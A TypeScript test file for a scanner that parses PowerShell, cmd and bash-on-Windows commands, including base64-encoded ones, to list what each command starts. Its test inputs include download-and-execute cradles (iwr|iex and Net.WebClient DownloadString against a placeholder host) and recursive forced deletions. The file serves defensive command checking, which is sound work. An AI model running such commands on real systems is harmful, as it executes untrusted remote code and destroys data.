import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LIMITS } from '../../src/core/limits.ts';
import { displayWord } from '../../src/core/word.ts';
import { cmdAsShell } from '../../src/shell/windows/cmd.ts';
import { powershellAsShell } from '../../src/shell/windows/powershell.ts';
import { scanned } from './scanned.ts';

/** What is started besides the command itself, in order. */
function started(command: string): readonly string[] {
  return scanned(command)
    .invocations.filter(({ via }) => via.length > 0)
    .map(({ argv }) => argv.map(displayWord).join(' '));
}

describe('PowerShell', () => {
  it.each<[code: string, started: readonly string[]]>([
    ['Remove-Item -Recurse -Force C:\\x', ['remove-item -recurse -force C:/x']],
    ['rm -r -fo x; del y', ['remove-item -r -fo x', 'remove-item y']],
    ['& "C:\\a b\\git.exe" status', ['C:/a b/git.exe status']],
    ['iwr https://x.test | iex', ['invoke-webrequest https://x.test', 'invoke-expression']],
    ['if (Test-Path x) { Remove-Item x } else { ls }', ['test-path x', 'remove-item x', 'get-childitem']],
    ['gci *.tmp | % { ri $_ }', ['get-childitem *.tmp', 'foreach-object', 'remove-item']],
    ["[IO.Directory]::Delete('C:\\x', $true)", ['remove-item -recurse -force C:/x']],
    ["Write-Output 'rm -rf /'", ['write-output rm -rf /']],
    ['Write-Output "a`nb # c"', ['write-output a\nb # c']],
    ['git commit -m "it\'s done"  # rm x', ["git commit -m it's done"]],
    ['$x = "a"; ri $x', ['remove-item a']],
    [
      'try { ri a } catch [Exception] { ri b } finally { ri c }',
      ['remove-item a', 'remove-item b', 'remove-item c'],
    ],
    ['npm test 2>&1 > log.txt; ri x', ['npm test', 'remove-item x']],
    ['foreach ($f in gci) { ri $f }', ['get-childitem', 'remove-item ⟨f⟩']],
    ['<# ri a #> ri b', ['remove-item b']],
  ])('%s', (code, expected) => {
    expect(started(`powershell -NoProfile -Command '${code.replaceAll("'", "'\\''")}'`)).toEqual(expected);
    const bytes = Buffer.from(code, 'utf16le').toString('base64');
    expect(started(`pwsh -e ${bytes}`)).toEqual(expected);
  });

  it('gives what is fetched, decoded and called to what runs it', () => {
    const code = "IEX (New-Object Net.WebClient).DownloadString('https://x.test/a')";
    expect(started(`powershell "${code}"`)[0]).toBe('invoke-webrequest https://x.test/a');
    expect(scanned(`powershell "${code}"`).coverage).toBe('opaque');
  });

  it('is read where bash can make nothing of a text', () => {
    const { invocations, coverage } = scanned('Remove-Item (Get-ChildItem C:/x)');
    expect(invocations.map(({ argv }) => displayWord(argv[0] ?? []))).toContain('get-childitem');
    expect(coverage).toBe('opaque');
  });

  it('ends on any text, and what it makes can be read again', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), text => {
        const code = powershellAsShell(text) ?? '';
        expect(scanned(code).steps).toBeGreaterThanOrEqual(0);
      }),
      { numRuns: 500 },
    );
    expect(powershellAsShell('('.repeat(100_000))).toBeUndefined();
    expect(powershellAsShell('$a.b('.repeat(10_000))).toBeUndefined();
    for (const hostile of ['[', '<#', '$(', '"$(', '`', '@{', '$a.', "'"])
      powershellAsShell(hostile.repeat(30_000 / hostile.length));
  });

  it('is read up to its cap, and no further', () => {
    const fill = (length: number): string => `rm x${' '.repeat(length - 4)}`;
    expect(powershellAsShell(fill(LIMITS.powershellBytes))).toBe("remove-item 'x'");
    expect(powershellAsShell(fill(LIMITS.powershellBytes + 1))).toBeUndefined();
  });
});

describe('cmd', () => {
  it.each<[code: string, started: readonly string[]]>([
    ['del /s /q C:\\x', ['del /s /q C:/x']],
    ['rmdir /s "a b" & erase c', ['rd /s a b', 'del c']],
    ['if exist build rd /s /q build', ['rd /s /q build']],
    ['for %i in (*.tmp) do @del %i', ['for %i in', '*.tmp', 'del %i']],
    ['echo a^&b > out.txt && type out.txt', ['echo a&b', 'get-content out.txt']],
    ['rd /s /q "%USERPROFILE%\\x"', ['rd /s /q /home/user/x']],
    ['CMD.EXE /c ver', ['cmd /c ver', 'ver']],
  ])('%s', (code, expected) => {
    expect(started(`cmd /c '${code}'`)).toEqual(expected);
  });

  it('ends on any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), text => {
        expect(scanned(cmdAsShell(text)).steps).toBeGreaterThanOrEqual(0);
      }),
      { numRuns: 500 },
    );
  });
});

describe('what bash starts on Windows', () => {
  it.each<[command: string, expected: readonly string[]]>([
    ['cmd //c "del x"', ['del x']],
    ['Start-Process notepad', ['notepad']],
    ['wsl -d Ubuntu -- rm -rf x', ['rm -rf x']],
    ['wsl ls', ['ls']],
    ['echo x | XARGS rm', ['rm x']],
    ['powershell -File x.ps1', []],
    ['pwsh x.ps1', []],
    ['cmd /?', []],
  ])('%s', (command, expected) => {
    expect(started(command)).toEqual(expected);
  });

  it.each([
    ['&& rm x', 'rm x'],
    ['| rm x', 'rm x'],
    ['& rm x', 'rm x'],
  ])('reads on behind an operator that nothing stands before: %s', (command, expected) => {
    const { invocations, coverage } = scanned(command);
    expect(invocations.map(({ argv }) => argv.map(displayWord).join(' '))).toContain(expected);
    expect(coverage).toBe('opaque');
  });
});
